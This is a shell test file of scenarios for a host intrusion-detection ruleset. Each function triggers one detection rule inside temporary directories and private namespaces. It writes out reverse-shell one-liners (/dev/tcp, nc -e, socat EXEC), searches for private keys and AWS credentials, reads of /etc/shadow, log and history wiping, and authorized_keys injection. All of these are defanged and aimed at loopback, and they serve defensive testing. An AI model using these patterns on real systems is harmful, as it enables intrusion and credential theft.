# Host-rule scenarios: one function per behaviour of rules/host.rules, and
# the table of the host-rule sids each must raise (tests/scenarios/README.md).
# Sourced by tests/scenarios/live, which calls sc_<name> (dashes become
# underscores) in a subshell with:
#   T   an empty temporary directory of the scenario (removed afterwards)
#   B   $T/bin, for programs renamed to look like servers or tools
#   PY  /usr/bin/python3
#   HOME=$T/home, HISTFILE empty, cwd $T
# Everything stays below $T, in private mount namespaces (unshare -m: the
# mounts over /etc/..., /dev/shm, /var/log are gone when the namespace
# ends) or in private network namespaces (unshare -n: public-looking
# addresses on their own loopback). Nothing of the real system is written.
#
# name                      host-rule sids the scenario must raise ("-": none)
SCENARIOS='
traversal-read              9200001
read-sensitive-untrusted    9200002
read-sensitive-server       9200002,9200003
grep-private-keys           9200004
find-private-keys           9200005
grep-aws-credentials        9200006
find-aws-credentials        9200007
symlink-sensitive           9200008
hardlink-sensitive          9200009
shell-under-nginx           9200010
shell-under-java-server     9200011
shell-under-node-server     9200012
system-user-interactive     9200013
exec-from-dev-shm           9200014
script-from-dev-shm         9200015
memfd-exec                  9200016
netcat-exec                 9200017
socat-exec                  9200018
reverse-shell-dev-tcp       9200010,9200019,9200020
interactive-shell-nginx     9200010,9200020
reverse-shell-python        9200021
reverse-shell-perl          9200021
miner-stratum-url           9200022
miner-pool-port             9200023
ssh-nonstandard-port        9200024
bulk-data-removal           9200025
clear-logs                  9200026
history-delete              9200027
history-truncate            9200028
ptrace-attach               9200029
ptrace-traceme              9200030
write-below-bin             9200031
write-below-etc             9200032
cron-table-write            9200033
crontab-install             9200034
authorized-keys             9200035
setuid-root                 9200036
chmod-setuid                9200037
chmod-setgid                9200038
kernel-module-load          9200039
bpf-unexpected              9200040
benign                      -
allow-listed                -
'

# named NAME TARGET: $B/NAME runs TARGET with the process name NAME (the
# kernel names a process after the file it executes, a symlink included).
named() { ln -sf "$2" "$B/$1"; }

# copied NAME TARGET: like named, but the executable's own path is $B/NAME
# too (for rules on proc.exe / proc.pexe).
copied() { cp "$2" "$B/$1"; }

# in_mountns SCRIPT: runs SCRIPT with sh in a private mount namespace.
in_mountns() { unshare -m --propagation private sh -ec "$1"; }

# in_netns SCRIPT: runs SCRIPT with sh in a private network namespace whose
# loopback also carries 203.0.113.7 (TEST-NET-3: public-looking, never
# routed here), so connections to it stay inside the namespace.
in_netns() {
	unshare -n sh -ec "ip link set lo up; ip addr add 203.0.113.7/32 dev lo; $1"
}

# fake_shadow: a file to bind-mount over /etc/shadow in a mount namespace.
fake_shadow() { echo 'root:*:19000:0:99999:7:::' >"$T/shadow"; }

sc_traversal_read() {
	mkdir -p "$T/www/html"
	cd "$T/www/html"
	rel=$(realpath --relative-to=. /etc/hostname)
	# cat's parent is python, not a shell
	"$PY" -c 'import subprocess, sys; subprocess.run(["cat", sys.argv[1]], stdout=subprocess.DEVNULL)' "$rel"
}

sc_read_sensitive_untrusted() {
	fake_shadow
	in_mountns "mount --bind '$T/shadow' /etc/shadow; '$PY' -c 'open(\"/etc/shadow\").read()'"
}

sc_read_sensitive_server() {
	fake_shadow
	named nginx "$PY"
	in_mountns "mount --bind '$T/shadow' /etc/shadow; '$B/nginx' -c 'import time; time.sleep(6.5); open(\"/etc/shadow\").read()'"
}

sc_grep_private_keys() {
	mkdir "$T/empty"
	grep -r 'BEGIN RSA PRIVATE KEY' "$T/empty" || true
}

sc_find_private_keys() { find "$T" -name id_rsa >/dev/null; }

sc_grep_aws_credentials() {
	mkdir "$T/empty"
	grep -ri aws_secret_access_key "$T/empty" || true
}

sc_find_aws_credentials() { find "$T" -path '*/.aws/credentials' >/dev/null; }

sc_symlink_sensitive() { ln -s /etc/shadow "$T/shadow-link"; }

sc_hardlink_sensitive() {
	fake_shadow
	# /etc/shadow is a bind mount here: the link fails with EXDEV, the
	# attempt is what the rule reports.
	in_mountns "mount --bind '$T/shadow' /etc/shadow; ln /etc/shadow '$T/shadow-hard' 2>/dev/null || true"
}

sc_shell_under_nginx() {
	named nginx "$PY"
	"$B/nginx" -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "id >/dev/null"])'
}

sc_shell_under_java_server() {
	# a JVM whose executable ends in /java running Tomcat's main class
	copied java /bin/dash
	"$B/java" -c '/bin/sh -c true; exit 0' org.apache.catalina.startup.Bootstrap start
}

sc_shell_under_node_server() {
	copied node /bin/dash
	"$B/node" -c '/bin/sh -c true; exit 0' server.js
}

sc_system_user_interactive() {
	# a session below "sshd" runs a program as nobody
	named sshd /bin/bash
	"$B/sshd" -c 'setpriv --reuid=nobody --regid=nogroup --clear-groups /bin/true; exit 0'
}

sc_exec_from_dev_shm() {
	in_mountns "mount -t tmpfs nj-shm /dev/shm; cp /bin/true /dev/shm/payload; /dev/shm/payload"
}

sc_script_from_dev_shm() {
	in_mountns "mount -t tmpfs nj-shm /dev/shm; echo true >/dev/shm/payload.sh; sh /dev/shm/payload.sh"
}

sc_memfd_exec() {
	"$PY" -c '
import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["payload"], {})'
}

sc_netcat_exec() {
	named nc /bin/true
	"$B/nc" -e /bin/sh 127.0.0.1 4444
}

sc_socat_exec() {
	named socat /bin/true
	"$B/socat" TCP:127.0.0.1:4444 EXEC:/bin/sh
}

# nginx_client ARGV: "nginx" (python) listens on 127.0.0.1, starts the
# program ARGV (a python list expression; %d in its strings becomes the
# port), sends it "exit" and reads until it leaves.
nginx_client() {
	named nginx "$PY"
	"$B/nginx" -c '
import socket, subprocess
l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
port = l.getsockname()[1]
argv = [a.replace("%d", str(port)) for a in '"$1"']
p = subprocess.Popen(argv, stderr=subprocess.DEVNULL)
l.settimeout(10)
c, _ = l.accept(); c.settimeout(10)
c.sendall(b"exit\n")
try:
    while c.recv(4096): pass
except OSError: pass
c.close(); p.wait(timeout=10)'
}

sc_reverse_shell_dev_tcp() {
	nginx_client '["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1"]'
}

sc_interactive_shell_nginx() {
	named nginx "$PY"
	"$B/nginx" -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "sh -i </dev/null 2>/dev/null; exit 0"])'
}

sc_reverse_shell_python() {
	nginx_client '["/usr/bin/python3", "-c", "import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",%d));s.recv(16);s.close()"]'
}

sc_reverse_shell_perl() {
	nginx_client '["perl", "-e", "use IO::Socket; $s=IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:%d\"); $s->recv($b,16); close($s);"]'
}

sc_miner_stratum_url() {
	named xmrig /bin/true
	"$B/xmrig" -o stratum+tcp://pool.invalid:3333 -u wallet
}

# connect_public PORT: inside a network namespace, a listener on
# 203.0.113.7:PORT and one connection to it.
connect_public() {
	in_netns "'$PY' -c '
import socket
l = socket.socket(); l.bind((\"203.0.113.7\", $1)); l.listen(1)
c = socket.create_connection((\"203.0.113.7\", $1), timeout=5)
l.accept()[0].close(); c.close()'"
}

sc_miner_pool_port() { connect_public 3333; }

sc_ssh_nonstandard_port() {
	command -v ssh >/dev/null || { echo "no ssh client"; exit 77; }
	mkdir -p "$HOME"
	in_netns "'$PY' -c '
import socket, subprocess
l = socket.socket(); l.bind((\"203.0.113.7\", 443)); l.listen(1)
p = subprocess.Popen([\"ssh\", \"-F\", \"/dev/null\", \"-o\", \"BatchMode=yes\", \"-o\", \"ConnectTimeout=5\",
                      \"-o\", \"StrictHostKeyChecking=no\", \"-o\", \"UserKnownHostsFile=/dev/null\",
                      \"-p\", \"443\", \"nobody@203.0.113.7\", \"true\"],
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
l.settimeout(10); l.accept()[0].close(); p.wait(timeout=10)'"
}

sc_bulk_data_removal() {
	head -c 4096 /dev/zero >"$T/data"
	shred "$T/data"
}

sc_clear_logs() {
	mkdir "$T/log"
	echo old >"$T/log/auth.log"
	in_mountns "mount -t tmpfs nj-log /var/log; echo old >/var/log/messages; : >/var/log/messages"
}

sc_history_delete() {
	mkdir -p "$HOME"
	touch "$HOME/.bash_history"
	rm "$HOME/.bash_history"
}

sc_history_truncate() {
	mkdir -p "$HOME"
	touch "$HOME/.zsh_history"
	cp /dev/null "$HOME/.zsh_history"
}

sc_ptrace_attach() {
	sleep 10 &
	target=$!
	"$PY" -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
if libc.ptrace(16, pid, 0, 0) == 0:      # PTRACE_ATTACH
    os.waitpid(pid, 0)
    libc.ptrace(17, pid, 0, 0)           # PTRACE_DETACH
' "$target"
	kill "$target"
	wait "$target" 2>/dev/null || true
}

sc_ptrace_traceme() {
	"$PY" -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'
}

sc_write_below_bin() {
	in_mountns "mount -t tmpfs nj-bin /usr/local/bin; cp /bin/true /usr/local/bin/nj-payload"
}

sc_write_below_etc() {
	in_mountns "mount -t tmpfs nj-etc /etc/profile.d; echo 'export NJ=1' >/etc/profile.d/nj.sh"
}

sc_cron_table_write() {
	in_mountns "mount -t tmpfs nj-cron /etc/cron.d; echo '* * * * * root true' >/etc/cron.d/nj"
}

sc_crontab_install() {
	named crontab /bin/true
	echo '* * * * * true' >"$T/job"
	"$B/crontab" -l
	"$B/crontab" "$T/job"
}

sc_authorized_keys() {
	mkdir -p "$HOME/.ssh"
	echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE nj' >>"$HOME/.ssh/authorized_keys"
}

sc_setuid_root() {
	# a program started as nobody, holding CAP_SETUID, makes itself root
	setpriv --reuid=nobody --regid=nogroup --clear-groups --inh-caps=+setuid \
		--ambient-caps=+setuid "$PY" -c 'import os; os.setuid(0)'
}

sc_chmod_setuid() {
	touch "$T/file"
	chmod u+s "$T/file"
}

sc_chmod_setgid() {
	touch "$T/file"
	chmod g+s "$T/file"
}

sc_kernel_module_load() {
	# finit_module on /dev/null: nothing to load, the call fails. A kernel
	# without module support has no tracepoint for the call, and the
	# sensor's start-up report (per-call hooks) says so: nothing to see.
	if grep -q 'not built into this kernel:.*finit_module' "$T/../err" 2>/dev/null; then
		echo "finit_module is not built into this kernel (sensor report)"
		exit 77
	fi
	"$PY" -c '
import ctypes, os
fd = os.open("/dev/null", os.O_RDONLY)
ctypes.CDLL(None).syscall(313, fd, b"", 0)'
}

sc_bpf_unexpected() {
	# BPF_PROG_LOAD without attributes: the call fails with EFAULT/EINVAL
	"$PY" -c 'import ctypes; ctypes.CDLL(None).syscall(321, 5, None, 0)'
}

# What the rules must stay quiet about.
sc_benign() {
	named nginx "$PY"
	mkdir -p "$HOME/.ssh" "$T/www"
	cat /etc/passwd /etc/hostname >/dev/null
	ls /etc >/dev/null
	sh -c 'sh -c true'                             # shells under shells
	"$B/nginx" -c 'open("/etc/hostname").read()'   # a server reading a plain file
	"$B/nginx" -c 'import subprocess; subprocess.run(["/bin/true"])'
	grep -r 'hello' "$T/www" || true
	find "$T" -name '*.c' >/dev/null
	echo 'x' >"$T/notes.log"; : >"$T/notes.log"  # truncating a log of one's own
	(cd "$T/www" && "$PY" -c 'open("../www/../notes.log").read()')  # traversal, not to /etc
	echo 'x' >"$HOME/.ssh/known_hosts"
	touch "$T/f"; chmod 755 "$T/f"
	"$PY" -c 'import os; os.setgid(0); os.setuid(0)'   # root staying root
	connect_public 22
	in_netns "'$PY' -c '
import socket
l = socket.socket(); l.bind((\"127.0.0.1\", 3333)); l.listen(1)
c = socket.create_connection((\"127.0.0.1\", 3333)); c.close()'"
}

# The pass rules of host-allow.rules at work: the same acts by the
# programs allowed to do them.
sc_allow_listed() {
	fake_shadow
	named dpkg /bin/sh
	named nightjar "$PY"
	named runc "$PY"
	named passwd "$PY"
	named cron /bin/sh
	named nginx /bin/sh
	in_mountns "mount -t tmpfs nj-bin /usr/local/bin; mount -t tmpfs nj-etc /etc/profile.d
		'$B/dpkg' -c 'cp /bin/true /usr/local/bin/nj-tool; chmod u+s /usr/local/bin/nj-tool; echo x >/etc/profile.d/nj.sh'
		mount --bind '$T/shadow' /etc/shadow
		'$B/passwd' -c 'open(\"/etc/shadow\").read()'"
	"$B/nightjar" -c 'import ctypes; ctypes.CDLL(None).syscall(321, 5, None, 0)'
	"$B/runc" -c '
import os
fd = os.memfd_create("runc_cloned:/proc/self/exe")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["runc", "init"], {})'
	# nginx (a shell here) runs cron, which runs a shell: cron's shells are allowed
	"$B/nginx" -c "'$B/cron' -c 'sh -c true; exit 0'; exit 0"
}
